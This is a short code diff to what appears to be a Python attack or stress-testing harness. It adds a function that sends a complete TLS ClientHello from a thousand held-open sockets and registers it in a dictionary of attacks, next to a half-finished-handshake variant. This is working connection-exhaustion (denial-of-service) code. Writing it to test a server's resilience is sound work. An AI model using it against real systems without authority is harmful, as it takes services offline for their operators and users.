@@ -293,6 +293,15 @@ async def tls_connections(attack: Attack) -> None:
         writer.transport.abort()
 
 
+async def whole_tls_hellos(attack: Attack) -> None:
+    """A ClientHello that TLS answers, from a thousand sockets, and nothing more."""
+    context, said = ssl.create_default_context(), ssl.MemoryBIO()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    with contextlib.suppress(ssl.SSLWantReadError):
+        context.wrap_bio(ssl.MemoryBIO(), said).do_handshake()
+    await _held_connections(attack, said.read())
+
+
 async def half_tls_connections(attack: Attack) -> None:
     """A ClientHello that never ends, from a thousand sockets."""
     await _held_connections(attack, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(20))
@@ -372,6 +381,7 @@ ATTACKS: dict[str, Callable[[Attack], Awaitable[None]]] = {
         pipelined,
         tls_connections,
         half_tls_connections,
+        whole_tls_hellos,
     )
 }
 
